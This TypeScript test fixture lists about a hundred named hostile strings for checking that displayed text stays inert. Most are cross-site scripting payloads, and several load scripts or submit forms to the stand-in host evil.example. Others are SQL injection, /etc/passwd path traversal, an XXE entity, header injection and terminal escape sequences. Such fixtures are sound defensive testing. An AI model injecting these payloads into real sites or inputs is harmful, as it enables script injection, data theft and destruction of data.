/**
 * Strings that try to become markup, script or a request where they are shown. Whatever runs calls `hit()`, and whatever is fetched
 * is at `evil.example`, so that a browser notices both.
 */
export interface HostileText {
  /** What it tries. */
  name: string;
  text: string;
}

const NUL = String.fromCodePoint(0);
const ESC = String.fromCodePoint(27);

const named = (name: string, text: string): HostileText => ({ name, text });

/** Ends whatever it may be in, short enough that no page cuts it: for one quick look at each page. */
export const ALL_AT_ONCE = `"'></title></textarea></option></svg><img src=x onerror=hit()><script>hit()</script>&lt;b&gt;\n\nevent: end\ndata: x${NUL}\u202e<!--`;

export const HOSTILE_TEXTS: readonly HostileText[] = [
  named('a script', '<script>hit()</script>'),
  named('a script from elsewhere', '<script src=https://evil.example/a.js></script>'),
  named('a script in odd case', '<ScRiPt\n>hit()</sCrIpT\t>'),
  named('a script of a module', '<script type=module>import "https://evil.example/m.js"</script>'),
  named('an image that fails', '<img src=x onerror=hit()>'),
  named('an image without spaces', '<img/src=x/onerror=hit()>'),
  named('an image of another site', '<img src=https://evil.example/pixel.gif>'),
  named('an end of an attribute', '"><img src=x onerror=hit()><a title="'),
  named('an end of an attribute in single quotes', "'><img src=x onerror=hit()><a title='"),
  named('a new attribute', '" onfocus="hit()" autofocus tabindex="0" x="'),
  named('a new attribute without quotes', 'x onmouseover=hit() style=color:red '),
  named('a new attribute after a line break', '"\nonpointerenter="hit()"\nx="'),
  named('an end of the title', '</title></head><body onload=hit()>'),
  named('an end of a text field', '</textarea><script>hit()</script>'),
  named('an end of a list of choices', '</option></select><svg onload=hit()>'),
  named('an end of a table', '</td></tr></table><svg/onload=hit()>'),
  named('an end of a drawing', '</text></svg><img src=x onerror=hit()>'),
  named('a drawing', '<svg><animate onbegin=hit() attributeName=x dur=1s>'),
  named(
    'a drawing with a foreign part',
    '<svg><foreignObject><iframe srcdoc="<script>parent.hit()</script>">',
  ),
  named('a drawing that uses another', '<svg><use href="https://evil.example/x.svg#a"></use></svg>'),
  named('a formula', '<math><mtext><table><mglyph><style><img src=x onerror=hit()></style>'),
  named('a mutation of a formula', '<math><mi//xlink:href="data:x,<script>hit()</script>">'),
  named('a mutation of text without script', '<noscript><p title="</noscript><img src=x onerror=hit()>">'),
  named('a mutation of a style', '<svg></p><style><a id="</style><img src=1 onerror=hit()>">'),
  named(
    'a mutation of a form',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>',
  ),
  named('a mutation of a template', '<template><style></template><img src=x onerror=hit()></style>'),
  named('an open comment', '<!-- <img src=x onerror=hit()>'),
  named('an end of a comment', '--><script>hit()</script><!--'),
  named('an odd comment', '<!--><svg onload=hit()>--!><svg onload=hit()>'),
  named(
    'a processing instruction',
    '<?xml version="1.0"?><?php hit() ?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;',
  ),
  named('a CDATA section', '<![CDATA[<script>hit()</script>]]>'),
  named('an address of a script', 'javascript:hit()'),
  named('an address of a script in odd case', 'JaVaScRiPt:hit()//%0Aalert(1)'),
  named('an address of a script with a tab', 'java\tscript:hit()'),
  named('an address of a script after a line break', '\njavascript:hit()'),
  named('an address of a script after controls', '\u0001javascript:hit()'),
  named('an address with data', 'data:text/html,<script>parent.hit()</script>'),
  named('an address with data in base64', 'data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg=='),
  named('an address of a script of Visual Basic', 'vbscript:msgbox(1)'),
  named('an address of a blob', 'blob:https://evil.example/0'),
  named('an address of another site', '//evil.example/x'),
  named('an address of another site with a backslash', '/\\evil.example/x'),
  named('an address of another site with a user', 'https://github.com@evil.example/x'),
  named('a link', '<a href="javascript:hit()">click</a>'),
  named('a link in Markdown', '[click](javascript:hit()) ![x](https://evil.example/p.png "onload=hit()")'),
  named('an autolink in Markdown', '<javascript:hit()> <https://evil.example>'),
  named('a base address', '<base href="https://evil.example/">'),
  named('a refresh', '<meta http-equiv=refresh content="0;url=https://evil.example">'),
  named('a policy', '<meta http-equiv="Content-Security-Policy" content="script-src *">'),
  named('a setting of htmx', '<meta name="htmx-config" content=\'{"selfRequestsOnly":false}\'>'),
  named('a frame', '<iframe src="javascript:parent.hit()"></iframe>'),
  named('an object', '<object data="https://evil.example/x.swf"></object><embed src=//evil.example/x>'),
  named('a form', '<form action="https://evil.example"><button>Sign in</button></form>'),
  named('a button of an own form', '<button formaction="https://evil.example" name=csrf>'),
  named('a portal', '<dialog open><portal src=https://evil.example></portal></dialog>'),
  named(
    'a style',
    '<style>@import "https://evil.example/x.css";*{background:url(https://evil.example/y)}</style>',
  ),
  named('a style of an element', '<p style="background:url(https://evil.example/z);position:fixed;inset:0">'),
  named('a link to a style', '<link rel=stylesheet href=https://evil.example/x.css>'),
  named('CSS', '}*{background:url(https://evil.example/css)}/*expression(hit())'),
  named(
    'a request of htmx',
    '<div hx-get="https://evil.example/x" hx-trigger="load" hx-target="body"></div>',
  ),
  named(
    'a script of htmx',
    '<div hx-on:load="hit()" hx-on::after-init="hit()" data-hx-on-click="hit()"></div>',
  ),
  named('an attribute of htmx', '" hx-get="/artifacts" hx-trigger="load" hx-swap="outerHTML" x="'),
  named('a stream of htmx', '" hx-sse:connect="https://evil.example/events" hx-nonce="x" x="'),
  named('a partial page of htmx', '<hx-partial hx-target="body"><script>hit()</script></hx-partial>'),
  named('values of htmx', '" hx-vals="js:{a:hit()}" hx-vars="a:hit()" x="'),
  named('a template of the browser', '<template shadowrootmode=open><script>hit()</script></template>'),
  named(
    'an expression of a template',
    `{{constructor.constructor("hit()")()}} $\{hit()} #{hit()} <%= hit() %>`,
  ),
  named('an expression of a template literal', `\`$\{hit()}\``),
  named('an end of a script in JSON', '{"a":"</script><script>hit()</script>"}'),
  named('separators of lines in JSON', '"\u2028\u2029;hit()//'),
  named('a prototype', '__proto__'),
  named('a constructor', 'constructor'),
  named('entities', '&lt;script&gt;hit()&lt;/script&gt; &#60;img src=x onerror=hit()&#62; &amp;quot;'),
  named('entities without an end', '&lt&gt&quot&#x3c;img src=x&#x0020onerror=hit()&#62'),
  named('an entity in an address', 'java&#x0A;script&colon;hit()'),
  named('an overlong encoding', Buffer.from([0xc0, 0xbc, 0x73, 0x3e]).toString('latin1')),
  named('an encoding of seven bits', '+ADw-script+AD4-hit()+ADw-/script+AD4-'),
  named('an encoding of two bytes', '\u013cscript\u013ehit()'),
  named('wide brackets', '＜script＞hit()＜/script＞'),
  named('NUL', `<scr${NUL}ipt>hit()</scr${NUL}ipt>${NUL}`),
  named('controls', '\u0001\u0008\u000b\u000c\u000e\u001f\u007f\u0085\u009b31m'),
  named('half of a pair', 'a\ud800b\udc00c<img src=x onerror=hit()>'),
  named('an order of letters', '\u202egnp.exe\u2066\u2067\u202d\u2069\u200f'),
  named('letters that cannot be seen', 'a\u200b\u200d\u2060\ufeff\u00ad\u034f\u{e0001}\u{e0041}b'),
  named('marks upon marks', `Z${'\u0335\u0321\u0489'.repeat(60)}`),
  named('a word without a break', 'W'.repeat(5_000)),
  named('a long line of tags', '<b>'.repeat(2_000)),
  named('deep tags', `${'<div><svg>'.repeat(600)}<img src=x onerror=hit()>`),
  named('events of a stream', 'a\n\nevent: end\ndata: <script>hit()</script>\nid: 0\nretry: 1\n\n:'),
  named(
    'events of a stream with other line breaks',
    'a\r\rdata: <img src=x onerror=hit()>\r\r\r\nevent: message\r\n',
  ),
  named(
    'headers',
    'a\r\nSet-Cookie: countersign=evil\r\nLocation: https://evil.example\r\n\r\n<script>hit()</script>',
  ),
  named(
    'colours of a terminal',
    `${ESC}[31m<img src=x onerror=hit()>${ESC}[0m${ESC}]8;;javascript:hit()${ESC}\\x${ESC}]8;;${ESC}\\`,
  ),
  named('a title of a terminal', `${ESC}]0;evil\u0007${ESC}[2J${ESC}[1;1H${ESC}P$q"p${ESC}\\`),
  named('a colour that hides a tag', `<${ESC}[1mscript${ESC}[0m>hit()</${ESC}[1mscript>`),
  named('code in Markdown', '`<script>hit()</script>` ``` </code><img src=x onerror=hit()>'),
  named('YAML', '"}}\n- !!js/function "hit()"\nsteps: &a [*a, *a]\n<<: *a # <script>hit()</script>'),
  named('a path upwards', '../../../../etc/passwd'),
  named('a path upwards in an encoding', '..%2f..%2f..%5c%2e%2e/'),
  named('SQL', "'; DROP TABLE chain_runs; -- <img src=x onerror=hit()>"),
  named('a number', '1e999'),
];
